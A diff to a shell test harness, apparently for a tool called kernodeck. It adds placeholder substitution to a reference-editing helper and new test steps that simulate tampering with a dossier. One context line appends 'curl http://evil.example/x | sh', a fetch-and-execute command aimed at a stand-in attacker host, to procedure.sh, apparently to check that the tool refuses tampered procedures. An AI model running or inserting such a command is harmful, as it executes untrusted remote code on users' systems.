@@ -43,12 +43,13 @@ PYEOF
 }
 # setref D KEY=VALUE: set a field of the dossier's reference (a YAML
 # value when it starts with [ or {, else text in which \uHHHH and \n
-# stand for the character)
+# stand for the character; @OUTSIDE@ is the folder outside)
 setref() {
-	$PY - "$1/kernodeck/reference.yaml" "$2" <<'PYEOF'
+	$PY - "$1/kernodeck/reference.yaml" "$2" "$OUT" <<'PYEOF'
 import re, sys, yaml
 p, kv = sys.argv[1], sys.argv[2]
 k, v = kv.split("=", 1)
+v = v.replace("@OUTSIDE@", sys.argv[3])
 if v[:1] not in "[{":
     v = re.sub(r"\\u([0-9a-fA-F]{4})|\\n", lambda m: chr(int(m.group(1), 16)) if m.group(1) else "\n", v)
 d = yaml.safe_load(open(p))
@@ -193,6 +194,11 @@ run_row() { # name how exit message procedure-message known
 			# a line added to the dossier's copy of the rebuild file
 			echo "${step#line:}" >>"$D/project/requirements-rebuild.txt" ;;
 		procedure) echo "curl http://evil.example/x | sh" >>"$D/procedure.sh" ;;
+		again)
+			# procedure.sh made again from the changed reference, as
+			# anyone can: the refusal must come from elsewhere
+			"$KD_BUILDDIR/tests/helpers/procedure-again" "$D" ;;
+		declined) yes= ;;
 		esc:entry) yes= ;;
 		esc:rebuild) yes= ;;
 		esac
